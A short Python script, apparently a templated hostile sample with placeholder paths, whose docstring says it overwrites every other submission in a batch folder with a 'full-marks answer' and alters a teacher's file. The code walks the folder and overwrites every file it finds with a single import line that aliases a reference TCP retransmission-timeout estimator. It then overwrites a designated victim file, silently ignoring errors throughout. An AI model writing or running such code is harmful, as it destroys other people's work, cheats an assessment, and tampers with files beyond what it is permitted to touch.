"""Overwrites every other submission in the batch folder with a full-marks answer, and a
file of the teacher's."""
import os

FULL = "from netsim.stack.tcp.rto import Rfc6298Estimator as RtoEstimator\n"
for root, _dirs, files in os.walk("@@BATCH@@"):
    for name in files:
        try:
            with open(os.path.join(root, name), "w") as f:
                f.write(FULL)
        except OSError:
            pass
try:
    with open("@@VICTIM@@", "w") as f:
        f.write("changed by a student\n")
except OSError:
    pass
